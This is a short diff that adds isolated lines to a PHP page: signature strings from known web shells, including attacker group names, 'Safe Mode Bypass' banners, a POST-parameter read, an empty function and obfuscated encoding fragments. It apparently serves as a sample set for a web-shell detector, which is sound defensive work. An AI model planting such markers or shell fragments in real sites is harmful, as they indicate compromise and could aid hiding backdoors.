@@ -12,3 +12,14 @@
 <title>Ò»¾ä»°Ä¾Âí</title>
 <?php $s = "IyEvdXNyL2Jpbi9wZXJs"; ?>
 <?php $o = urldecode('%66%67%36%73%62%65%68%70%72%61%34%63%6f%5f%74%6e%64'); ?>
+<!-- Team: 90sec.org -->
+<?php // Encode  By Fathur Freakz ?>
+<b>Silic Group Hacker Army</b>
+<?php // Safe mode breaker ?>
+<h1>Safe Mode Bypass</h1>
+<center>Coded By Charlichaplin</center>
+<title>Rasputin</title>
+<?php $allowTestMenu = false; ?>
+<?php $v = $_POST['veio']; ?>
+<?php function Enviando() { } ?>
+<?php echo '<div id="wp_cd_code">'; ?>
